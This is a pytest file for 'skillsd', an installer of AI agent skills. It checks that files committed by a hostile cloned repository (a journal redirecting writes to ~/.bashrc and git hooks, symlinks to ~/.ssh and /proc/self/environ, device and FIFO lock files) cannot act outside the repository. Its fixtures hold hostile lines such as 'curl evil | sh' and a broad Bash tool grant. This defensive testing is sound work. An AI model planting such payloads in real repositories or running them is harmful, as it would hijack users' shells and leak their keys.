"""A cloned repository is input, never instruction: what it commits (a journal, links out of
it, a lock file that is a device) cannot make an install command act outside it.

Each test plants what a hostile repository would commit and runs the command a user would
run (the CLI as a real process where the process's behaviour is the promise)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from skillsd.core.errors import SkillsdError
from skillsd.core.install.fs_skill_digest import list_files, skill_digest
from skillsd.core.install.lock_file import LockEntry, LockFile, encode_lock
from skillsd.installing import install, installed, restore, update
from skillsd.installing.lock_store import target_for
from skillsd_protocol.errors import PathNotAllowedData
from skillsd_protocol.install import InstalledParams, InstallParams, RestoreParams, UpdateParams
from tests.install.helpers import Origin, context, git, skill_text, tree_state, write_skill
from tests.support.cli import run_cli


def _lock(project: Path, **entries: LockEntry) -> None:
    (project / "skills-lock.json").write_bytes(encode_lock(LockFile(skills=dict(entries))))


def _local_entry(project: Path, skill: Path, **kw: object) -> LockEntry:
    rel = "./" + str(skill.relative_to(project))
    return LockEntry(
        source=rel,
        source_type="local",
        digest=skill_digest(str(skill)),
        agents=["claude-code"],
        **kw,  # type: ignore[arg-type]
    )


# -- 1. a journal committed to the repository is never read ---------------------------------


@pytest.mark.process
def test_a_committed_journal_is_ignored(tmp_path: Path, project: Path, env: dict[str, str]) -> None:
    home = Path(env["HOME"])
    ssh = home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("PRIVATE KEY")
    (home / ".bashrc").write_text("# mine\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    (project / "evil.sh").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    (project / "bashrc").write_text("curl evil | sh\n")
    _lock(project)
    journal = {
        "lock_sha256": "0" * 64,
        "old_lock_sha256": None,
        "staging": [str(ssh), str(outside), "../outside"],
        "moves": [
            {"dest": str(home / ".bashrc"), "new": str(project / "bashrc"), "backup": None},
            {"dest": ".git/hooks/pre-commit", "new": "evil.sh", "backup": None},
        ],
    }
    (project / ".skills-lock.json.journal").write_text(json.dumps(journal))
    for command in (["installed"], ["install"], ["remove", "nothing"], ["update"]):
        run_cli(*command, cwd=project, env=env)
    assert (ssh / "id_ed25519").read_text() == "PRIVATE KEY"
    assert (outside / "keep.txt").read_text() == "keep"
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (project / "evil.sh").exists() and (project / "bashrc").exists()


@pytest.mark.process
def test_a_journal_naming_paths_outside_is_dropped_untouched(
    tmp_path: Path, project: Path, env: dict[str, str]
) -> None:
    """Even skillsd's own journal (in the state directory) is acted on only where installs
    own the paths: defence in depth for a state directory something else wrote into."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "data").write_text("data")
    target = target_for("repo", repo_root=str(project), home=env["HOME"], env=env)
    target.make_work_dir()
    Path(target.journal_path).write_text(
        json.dumps({"staging": [str(victim)], "moves": [{"dest": str(victim), "new": None}]})
    )
    installed(InstalledParams(), context(project, env))
    assert (victim / "data").read_text() == "data"
    assert not os.path.exists(target.journal_path)


@pytest.mark.process
def test_bookkeeping_lives_in_the_state_directory(
    tmp_path: Path, project: Path, env: dict[str, str], origin: Origin
) -> None:
    before = {p.name for p in project.iterdir()}
    install(InstallParams(source=origin.url), context(project, env))
    after = {p.name for p in project.iterdir()}
    assert after - before == {".agents", "skills-lock.json"}
    target = target_for("repo", repo_root=str(project), home=env["HOME"], env=env)
    assert os.stat(target.work_dir).st_mode & 0o777 == 0o700
    assert Path(target.guard_path).exists()


# -- 2. restore's copies follow no link ------------------------------------------------------


@pytest.mark.process
def test_relink_copies_no_link(tmp_path: Path, project: Path, env: dict[str, str]) -> None:
    secrets = tmp_path / "home" / ".ssh"
    secrets.mkdir(parents=True)
    (secrets / "id_ed25519").write_text("PRIVATE KEY")
    skill = write_skill(project / ".agents" / "skills" / "foo")
    (skill / "keys").symlink_to(secrets)
    (skill / "env.txt").symlink_to("/proc/self/environ")
    _lock(project, foo=_local_entry(project, skill, mode="copy"))
    listing = run_cli("installed", "--json", cwd=project, env=env)
    assert json.loads(listing.stdout)["skills"][0]["status"] == "links-broken"
    done = run_cli("install", cwd=project, env=env)
    assert done.returncode == 0, done.stderr
    copy = project / ".claude" / "skills" / "foo"
    assert (copy / "SKILL.md").is_file()
    assert not (copy / "keys").exists() and not (copy / "env.txt").exists()
    assert "PRIVATE KEY" not in json.dumps(tree_state(project / ".claude"))


@pytest.mark.process
def test_install_refuses_any_link_in_a_skill(
    tmp_path: Path, project: Path, env: dict[str, str]
) -> None:
    skill = write_skill(tmp_path / "src" / "linky")
    (skill / "env.txt").symlink_to("/proc/self/environ")
    with pytest.raises(SkillsdError) as caught:
        install(InstallParams(source=str(skill)), context(project, env))
    assert caught.value.data == PathNotAllowedData(file="env.txt")


# -- 3. writes stay beneath the repository ---------------------------------------------------


@pytest.mark.process
def test_a_link_out_of_the_repository_refuses_the_restore(
    project: Path, env: dict[str, str]
) -> None:
    home = Path(env["HOME"])
    (home / ".agents").mkdir()
    (project / ".agents").symlink_to(home / ".agents")
    skill = write_skill(project / "vendor" / "evil", description="Evil.", **{"notes.md": "allowed"})
    text = (skill / "SKILL.md").read_text().replace("---\n", "---\nallowed-tools: Bash(*)\n", 1)
    (skill / "SKILL.md").write_text(text)
    _lock(project, evil=_local_entry(project, skill))
    done = run_cli("install", "--json", cwd=project, env=env)
    assert done.returncode != 0
    assert "path_not_allowed" in done.stdout + done.stderr or "link leading outside" in (
        done.stdout + done.stderr
    )
    assert not (home / ".agents" / "skills" / "evil").exists()
    assert not (home / ".claude" / "skills" / "evil").exists()


@pytest.mark.process
def test_a_repository_at_home_never_writes_the_users_skills(env: dict[str, str]) -> None:
    """A dotfiles repository whose root is the home: its `.agents/skills` is the folder every
    other repository reads as the user's own, so a repo-scope restore must not write there."""
    home = Path(env["HOME"])
    git("init", "-q", cwd=home, env=env)
    skill = write_skill(home / "vendor" / "evil")
    _lock(home, evil=_local_entry(home, skill))
    with pytest.raises(SkillsdError) as caught:
        restore(RestoreParams(), context(home, env))
    assert caught.value.kind == "path_not_allowed"
    assert not (home / ".agents" / "skills" / "evil").exists()


# -- 4. restore replaces nothing the lock does not own ---------------------------------------


@pytest.mark.process
def test_restore_keeps_a_folder_the_lock_does_not_own(project: Path, env: dict[str, str]) -> None:
    home = Path(env["HOME"])
    mine = write_skill(home / ".claude" / "skills" / "deploy", description="My own deploy.")
    shutil_state = tree_state(mine)
    (project / ".claude").rmdir()
    (project / ".claude").symlink_to(home / ".claude")
    source = write_skill(project / "vendor" / "deploy")
    _lock(project, deploy=_local_entry(project, source))
    done = run_cli("install", cwd=project, env=env)
    assert done.returncode != 0
    assert tree_state(mine) == shutil_state and not mine.is_symlink()


@pytest.mark.process
def test_restore_keeps_an_untracked_file_in_a_copy(project: Path, env: dict[str, str]) -> None:
    source = write_skill(project / "vendor" / "foo")
    _lock(project, foo=_local_entry(project, source, mode="copy"))
    first = restore(RestoreParams(), context(project, env))
    assert [s.name for s in first.restored] == ["foo"]
    draft = project / ".claude" / "skills" / "foo" / "draft.md"
    draft.write_text("my notes")
    with pytest.raises(SkillsdError) as caught:
        restore(RestoreParams(), context(project, env))
    assert caught.value.kind == "already_exists"
    assert draft.read_text() == "my notes"
    forced = restore(RestoreParams(force=True), context(project, env))
    assert [s.name for s in forced.restored] == ["foo"] and not draft.exists()


# -- 5 and 6. the lock is read bounded, and never blocks -------------------------------------


@pytest.mark.process
def test_a_lock_that_is_a_device_is_refused_in_bounded_memory(
    project: Path, env: dict[str, str]
) -> None:
    (project / "skills-lock.json").symlink_to("/dev/zero")
    code = (
        "import resource, subprocess, sys; "
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
        "print(done.returncode); print(done.stderr.strip().splitlines()[-1]); "
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code, sys.executable, "-m", "skillsd", "installed"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    ).stdout.splitlines()
    assert out[0] == "2", out
    assert (
        "skills-lock.json" in out[1]
        and "not a regular file" in out[1]
        and "Traceback" not in out[1]
    )
    assert int(out[2]) < 200 * 1024, f"peak RSS {out[2]} KiB"  # it was 2.67 GB


@pytest.mark.process
def test_a_lock_that_is_a_fifo_or_proc_file_answers_at_once(
    project: Path, env: dict[str, str]
) -> None:
    os.mkfifo(project / "skills-lock.json")
    with pytest.raises(SkillsdError) as caught:
        installed(InstalledParams(), context(project, env))
    assert caught.value.kind == "invalid_lock"
    os.unlink(project / "skills-lock.json")
    (project / "skills-lock.json").symlink_to("/proc/self/environ")
    with pytest.raises(SkillsdError) as caught:
        installed(InstalledParams(), context(project, env))
    assert caught.value.kind == "invalid_lock" and "kernel file" in caught.value.message


@pytest.mark.process
def test_a_deeply_nested_lock_is_an_error(project: Path, env: dict[str, str]) -> None:
    (project / "skills-lock.json").write_text("[" * 200_000)
    with pytest.raises(SkillsdError) as caught:
        installed(InstalledParams(), context(project, env))
    assert caught.value.kind == "invalid_lock"


# -- 12 and 17. trees deeper or wider than a skill is ----------------------------------------


@pytest.mark.process
def test_a_skill_folder_1200_levels_deep_is_too_large(
    tmp_path: Path, project: Path, env: dict[str, str]
) -> None:
    skill = write_skill(tmp_path / "src" / "deep")
    folder = str(skill)
    for _ in range(1200):  # os.makedirs recurses once per level: one mkdir at a time
        folder += "/d"
        os.mkdir(folder)
    try:
        with pytest.raises(SkillsdError) as caught:
            install(InstallParams(source=str(skill)), context(project, env))
        assert caught.value.kind == "too_large" and "deeper than 64" in caught.value.message
    finally:  # shutil.rmtree (and so pytest's cleanup) recurses once per level too
        subprocess.run(["rm", "-rf", str(skill / "d")], check=True)


def test_empty_folders_count_toward_the_walk(tmp_path: Path) -> None:
    skill = write_skill(tmp_path / "wide")
    for i in range(9_100):
        (skill / f"d{i}").mkdir()
    from skillsd.core.install.fs_skill_digest import TreeTooLarge

    with pytest.raises(TreeTooLarge):
        list_files(str(skill), max_files=2000)
    assert len(list_files(str(skill))) == 1  # unbounded callers still see the one file


# -- 14. nothing is hashed through a link leading out ----------------------------------------


@pytest.mark.process
def test_installed_does_not_read_through_a_link_out(
    tmp_path: Path, project: Path, env: dict[str, str]
) -> None:
    outside = tmp_path / "outside"
    usr = write_skill(outside / "usr")
    (project / ".agents").mkdir()
    (project / ".agents" / "skills").symlink_to(outside)
    _lock(
        project,
        usr=LockEntry(source="./x", source_type="local", digest=skill_digest(str(usr))),
    )
    result = installed(InstalledParams(), context(project, env))
    assert [s.status for s in result.skills] == ["missing"]


# -- 20 and 21. sources found again ----------------------------------------------------------


@pytest.mark.process
def test_a_local_bare_repository_is_a_git_source(
    project: Path, env: dict[str, str], origin: Origin
) -> None:
    result = install(InstallParams(source=str(origin.bare)), context(project, env))
    assert sorted(s.name for s in result.installed) == ["alpha", "beta"]
    lock = json.loads((project / "skills-lock.json").read_text())
    assert {e["sourceType"] for e in lock["skills"].values()} == {"git"}
    assert all(len(e["commit"]) == 40 for e in lock["skills"].values())


@pytest.mark.process
def test_update_of_an_archive_url(
    tmp_path: Path, project: Path, env: dict[str, str], served: str
) -> None:
    path, url = tmp_path / "www" / "zipped.zip", f"{served}/zipped.zip"
    _write_zip(path, "Version 1.")
    install(InstallParams(source=url), context(project, env))
    _write_zip(path, "Version 2.")
    result = update(UpdateParams(), context(project, env))
    assert [u.applied for u in result.updates] == [True]
    assert "Version 2." in (project / ".agents" / "skills" / "zipped" / "SKILL.md").read_text()


def _write_zip(path: Path, body: str) -> None:
    import zipfile

    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("zipped/SKILL.md", skill_text("zipped", body))
